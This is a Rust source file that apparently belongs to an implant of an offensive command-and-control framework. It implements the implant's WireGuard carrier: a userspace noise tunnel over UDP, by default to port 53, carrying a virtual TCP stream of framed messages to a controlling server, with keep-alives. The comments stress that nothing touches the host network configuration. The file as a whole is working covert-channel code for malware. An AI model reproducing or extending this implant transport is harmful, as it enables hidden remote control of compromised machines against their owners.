//! WireGuard carrier. The implant runs the whole data plane in
//! userspace: a noise tunnel over UDP with one virtual TCP connection
//! inside it carrying the usual length-prefixed envelope frames. Nothing
//! touches the host network configuration.

use self::{
    noise::{Decapsulated, Noise},
    stack::VirtualTcp,
};
use super::{ConnectError, Connection, QUEUE_SIZE};
use crate::{
    config,
    envelope::{Envelope, EnvelopeCodec},
    state,
};
use bytes::BytesMut;
use log::debug;
use std::{io, net::SocketAddr, sync::Arc, time::Duration};
use tokio::{
    net::{lookup_host, UdpSocket},
    sync::mpsc,
    time::{self, Instant, MissedTickBehavior},
};
use tokio_util::{
    codec::{Decoder, Encoder},
    sync::CancellationToken,
};
use url::Url;

mod noise;
mod stack;

/// Interval between keep-alive pings on an idle channel
const PING_INTERVAL: Duration = Duration::from_secs(60);

/// Port dialed when the server URI doesn't carry one
const DEFAULT_PORT: u16 = 53;

/// Persistent keepalive advertised to the peer
const KEEPALIVE: u16 = 25;

/// Budget for the noise handshake plus the virtual TCP handshake
const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);

/// Cadence of the boringtun timer tick
const TIMER_TICK: Duration = Duration::from_millis(250);

/// Scratch size for received datagrams
const DATAGRAM_BUFFER: usize = 1500 + 80;

pub(super) async fn connect(uri: &Url) -> Result<Arc<Connection>, ConnectError> {
    let host = uri.host_str().ok_or(ConnectError::InvalidUri)?;
    let port = uri.port().unwrap_or(DEFAULT_PORT);

    // The URI may carry a domain name, the socket wants an address
    let endpoint = lookup_host((host, port))
        .await?
        .next()
        .ok_or(ConnectError::InvalidUri)?;

    debug!("[wg] Connecting to {endpoint}");
    let link = WgLink::open(endpoint).await?;
    debug!("[wg] Virtual circuit established");

    // Byte-level channels between the envelope tasks and the tunnel
    // event loop
    let (uplink_tx, uplink_rx) = mpsc::channel::<Vec<u8>>(QUEUE_SIZE);
    let (downlink_tx, mut downlink_rx) = mpsc::channel::<Vec<u8>>(QUEUE_SIZE);

    // The device token is the carrier resource: cancelling it tears the
    // event loop and its socket down
    let device = CancellationToken::new();
    tokio::spawn(link.run(uplink_rx, downlink_tx, device.clone()));

    let (send_tx, mut send_rx) = mpsc::channel::<Envelope>(QUEUE_SIZE);
    let (recv_tx, recv_rx) = mpsc::channel::<Envelope>(QUEUE_SIZE);
    let ctrl = CancellationToken::new();

    let cleanup_device = device.clone();
    let connection = Connection::new(
        send_tx,
        recv_rx,
        ctrl.clone(),
        Box::new(move || {
            debug!("[wg] Lost connection, cleaning up");
            // Bring the device down before the queues close
            cleanup_device.cancel();
        }),
    );

    // Writer: frames envelopes onto the virtual stream and keeps the
    // channel alive with pings
    let writer_ctrl = ctrl.clone();
    let writer_connection = connection.clone();
    tokio::spawn(async move {
        let mut codec = EnvelopeCodec;
        let mut ping = time::interval_at(Instant::now() + PING_INTERVAL, PING_INTERVAL);
        ping.set_missed_tick_behavior(MissedTickBehavior::Delay);

        loop {
            let envelope = tokio::select! {
                _ = writer_ctrl.cancelled() => break,
                envelope = send_rx.recv() => match envelope {
                    Some(value) => value,
                    None => break,
                },
                _ = ping.tick() => Envelope::ping(),
            };

            let mut frame = BytesMut::new();
            if codec.encode(envelope, &mut frame).is_err() {
                break;
            }

            let sent = tokio::select! {
                _ = writer_ctrl.cancelled() => break,
                sent = uplink_tx.send(frame.to_vec()) => sent,
            };
            if sent.is_err() {
                break;
            }
        }

        writer_connection.cleanup();
    });

    // Reader: reassembles frames from the byte chunks the tunnel
    // delivers
    let reader_connection = connection.clone();
    tokio::spawn(async move {
        let mut codec = EnvelopeCodec;
        let mut buffer = BytesMut::new();

        'outer: loop {
            let chunk = tokio::select! {
                _ = ctrl.cancelled() => break,
                chunk = downlink_rx.recv() => match chunk {
                    Some(value) => value,
                    // Tunnel closed, end of stream
                    None => break,
                },
            };

            buffer.extend_from_slice(&chunk);
            loop {
                match codec.decode(&mut buffer) {
                    Ok(Some(envelope)) => {
                        let sent = tokio::select! {
                            _ = ctrl.cancelled() => break 'outer,
                            sent = recv_tx.send(envelope) => sent,
                        };
                        if sent.is_err() {
                            break 'outer;
                        }
                    }
                    Ok(None) => break,
                    Err(err) => {
                        debug!("[wg] Envelope read failed: {err}");
                        break 'outer;
                    }
                }
            }
        }

        reader_connection.cleanup();
    });

    state::set_active_connection(connection.clone());
    Ok(connection)
}

/// Established tunnel: the UDP socket, the noise session and the one
/// virtual TCP connection riding them
struct WgLink {
    socket: UdpSocket,
    noise: Noise,
    tcp: VirtualTcp,
}

impl WgLink {
    /// Dials the peer and drives both handshakes to completion
    async fn open(endpoint: SocketAddr) -> Result<WgLink, ConnectError> {
        let bind_addr = if endpoint.is_ipv4() {
            "0.0.0.0:0"
        } else {
            "[::]:0"
        };
        let socket = UdpSocket::bind(bind_addr).await?;
        socket.connect(endpoint).await?;

        let noise = Noise::new(
            config::WG_IMPLANT_PRIVATE_KEY,
            config::WG_SERVER_PUBLIC_KEY,
            KEEPALIVE,
        )?;

        let local = config::WG_IMPLANT_ADDRESS
            .parse()
            .map_err(|_| ConnectError::WireguardConfig)?;
        let peer = config::WG_PEER_ADDRESS
            .parse()
            .map_err(|_| ConnectError::WireguardConfig)?;
        let tcp = VirtualTcp::new(local, peer, config::wg_comms_port());

        let mut link = WgLink { socket, noise, tcp };

        // Sending the SYN before the noise handshake exists makes
        // boringtun queue it and emit the handshake initiation instead;
        // the queued SYN flushes out once the response arrives
        let syn = link.tcp.syn();
        if let Some(syn) = syn {
            link.send_ip(&syn).await?;
        }

        let deadline = Instant::now() + CONNECT_TIMEOUT;
        let mut buffer = vec![0u8; DATAGRAM_BUFFER];
        let mut discard = Vec::new();

        while !link.tcp.is_established() {
            let remaining = deadline
                .checked_duration_since(Instant::now())
                .ok_or(ConnectError::WireguardTimeout)?;

            let received = match time::timeout(remaining, link.socket.recv(&mut buffer)).await {
                Ok(result) => result?,
                Err(_) => return Err(ConnectError::WireguardTimeout),
            };

            let eof = link.process_datagram(&buffer[..received], &mut discard).await?;
            if eof {
                return Err(ConnectError::Io(io::Error::new(
                    io::ErrorKind::ConnectionRefused,
                    "virtual connection refused",
                )));
            }
        }

        Ok(link)
    }

    /// Event loop pumping the tunnel until cancelled or it dies
    async fn run(
        mut self,
        mut uplink_rx: mpsc::Receiver<Vec<u8>>,
        downlink_tx: mpsc::Sender<Vec<u8>>,
        device: CancellationToken,
    ) {
        let mut buffer = vec![0u8; DATAGRAM_BUFFER];
        let mut timer = time::interval(TIMER_TICK);
        timer.set_missed_tick_behavior(MissedTickBehavior::Delay);

        loop {
            tokio::select! {
                _ = device.cancelled() => break,

                received = self.socket.recv(&mut buffer) => {
                    let received = match received {
                        Ok(value) => value,
                        Err(err) => {
                            debug!("[wg] Socket receive failed: {err}");
                            break;
                        }
                    };

                    let mut payloads = Vec::new();
                    let eof = match self.process_datagram(&buffer[..received], &mut payloads).await {
                        Ok(value) => value,
                        Err(err) => {
                            debug!("[wg] Tunnel send failed: {err}");
                            break;
                        }
                    };

                    for payload in payloads {
                        if downlink_tx.send(payload).await.is_err() {
                            // Reader gone, nothing left to deliver to
                            return self.shutdown().await;
                        }
                    }
                    if eof {
                        break;
                    }
                }

                data = uplink_rx.recv() => {
                    let data = match data {
                        Some(value) => value,
                        None => break,
                    };
                    let packets = self.tcp.push(&data);
                    for packet in packets {
                        if let Err(err) = self.send_ip(&packet).await {
                            debug!("[wg] Tunnel send failed: {err}");
                            return self.shutdown().await;
                        }
                    }
                }

                _ = timer.tick() => {
                    for datagram in self.noise.update_timers() {
                        if self.socket.send(&datagram).await.is_err() {
                            return self.shutdown().await;
                        }
                    }
                }
            }
        }

        self.shutdown().await
    }

    /// Closes the virtual connection as politely as the situation allows
    async fn shutdown(mut self) {
        if let Some(fin) = self.tcp.close() {
            let _ = self.send_ip(&fin).await;
        }
        debug!("[wg] Device down");
    }

    /// Feeds one received datagram through the tunnel, forwarding
    /// control messages, answering the virtual TCP and collecting
    /// delivered payload. Returns true when the peer closed the stream.
    async fn process_datagram(
        &mut self,
        datagram: &[u8],
        payloads: &mut Vec<Vec<u8>>,
    ) -> io::Result<bool> {
        let mut eof = false;

        let mut result = self.noise.decapsulate(datagram);
        loop {
            match result {
                Decapsulated::Network(data) => {
                    self.socket.send(&data).await?;
                    // Control messages can have queued packets parked
                    // behind them, keep draining
                    result = self.noise.flush();
                    continue;
                }
                Decapsulated::Tunnel(packet) => {
                    eof |= self.handle_ip(&packet, payloads).await?;
                    result = self.noise.flush();
                    continue;
                }
                Decapsulated::Nothing => break,
            }
        }

        Ok(eof)
    }

    /// Runs one decrypted IP packet through the virtual TCP
    async fn handle_ip(&mut self, packet: &[u8], payloads: &mut Vec<Vec<u8>>) -> io::Result<bool> {
        let input = self.tcp.handle(packet);
        for reply in input.replies {
            self.send_ip(&reply).await?;
        }
        if !input.payload.is_empty() {
            payloads.push(input.payload);
        }
        Ok(input.eof)
    }

    /// Encrypts and sends one IP packet
    async fn send_ip(&mut self, packet: &[u8]) -> io::Result<()> {
        if let Some(datagram) = self.noise.encapsulate(packet) {
            self.socket.send(&datagram).await?;
        }
        Ok(())
    }
}
